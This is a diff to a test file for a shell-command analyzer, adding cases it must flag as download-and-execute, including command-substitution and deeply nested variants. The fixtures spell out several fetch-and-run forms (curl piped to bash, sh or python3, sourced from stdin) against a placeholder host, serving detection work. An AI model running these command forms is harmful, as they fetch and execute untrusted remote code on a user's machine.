@@ -18,6 +18,7 @@ describe("analyzeShell", () => {
       "curl -o i.sh https://e.invalid/i.sh\necho ok\nbash ./i.sh",
       "curl -s https://e.invalid | python3 -",
       "curl -sSL https://e.invalid | bash /dev/stdin",
+      "$(curl -s https://e.invalid) --now",
       'source /dev/stdin <<< "$(curl -s https://e.invalid)"',
     ])
       expect(rules(text), text).toEqual(["download-execute"]);
@@ -63,6 +64,11 @@ describe("analyzeShell", () => {
       "# curl -s https://e.invalid | sh",
     ])
       expect(rules(text), text).toEqual([]);
+  });
+
+  it("reads deep nesting without overflowing the stack (past its bound, the rest is not read)", () => {
+    expect(rules(`${"( ".repeat(300)}curl -s https://e.invalid | sh${" )".repeat(300)}`)).toEqual(["download-execute"]);
+    expect(rules(`echo ${"$(".repeat(5000)}x${")".repeat(5000)}`)).toEqual([]);
   });
 
   it("reads a prose line's pipe into a shell even when a sentence follows", () => {
